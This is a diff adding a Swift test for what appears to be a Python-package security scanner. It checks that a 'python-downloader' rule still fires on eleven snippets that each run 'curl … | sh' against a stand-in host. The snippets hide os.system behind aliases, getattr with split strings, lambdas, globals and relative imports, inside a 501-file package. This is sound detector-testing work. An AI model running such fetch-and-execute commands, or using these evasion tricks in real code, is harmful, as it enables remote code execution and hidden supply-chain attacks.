@@ -70,6 +70,27 @@ import Testing
         _ = await scan([(path, text)])
     }
 
+    /// In a large package, functions are left out that mention nothing that matters; nothing may hide behind another name by that.
+    @Test(arguments: [
+        "import os\nclass A:\n  def a(self): self.f = os.system\n  def b(self): self.f('curl https://host.example.invalid | sh')",
+        "import os\nclass A:\n  def a(self):\n    g = os.system\n    self.f = g\n  def b(self): self.f('curl https://host.example.invalid | sh')",
+        "import os\nT = {}\ndef a(): T['x'] = os.system\na()\ndef b(): T['x']('curl https://host.example.invalid | sh')",
+        "from os import system as s\nt = s\nu = t\ndef b(): u('curl https://host.example.invalid | sh')",
+        "import os\nf = lambda c: os.system(c)\ndef b(): f('curl https://host.example.invalid | sh')",
+        "import os as o\nf = getattr(o, 'sys' + 'tem')\ndef b(): f('curl https://host.example.invalid | sh')",
+        "import os\ndef run(c): os.system(c)\ndef b(): run('curl https://host.example.invalid | sh')",
+        "def b(): getattr(__import__('o' + 's'), 'sys' + 'tem')('curl https://host.example.invalid | sh')",
+        "import os\ndef a():\n  global f\n  f = os.system\na()\ndef b(): f('curl https://host.example.invalid | sh')",
+        "from .other import plain as p\ndef b(): p('curl https://host.example.invalid | sh')",
+        "from . import other\ndef b(): other.plain('curl https://host.example.invalid | sh')",
+    ])
+    func inALargePackageNothingHides(text: String) async {
+        var files = (0..<501).map { ("pkg/filler\($0).py", "def f(x):\n  return x + \($0)\n") }
+        files += [("pkg/__init__.py", ""), ("pkg/other.py", "import os\nplain = os.system\n"), ("pkg/evil.py", text)]
+        let result = await scan(files)
+        #expect(result.findings.contains { $0.path == "pkg/evil.py" && $0.finding.rule.id == "python-downloader" })
+    }
+
     @Test func everyRuleSaysWhy() {
         #expect(Set(Rule.codeRules.map(\.id)).count == Rule.codeRules.count)
         for rule in Rule.codeRules { #expect(!rule.title.isEmpty && !rule.why.isEmpty && !rule.fix.isEmpty, "\(rule.id)") }
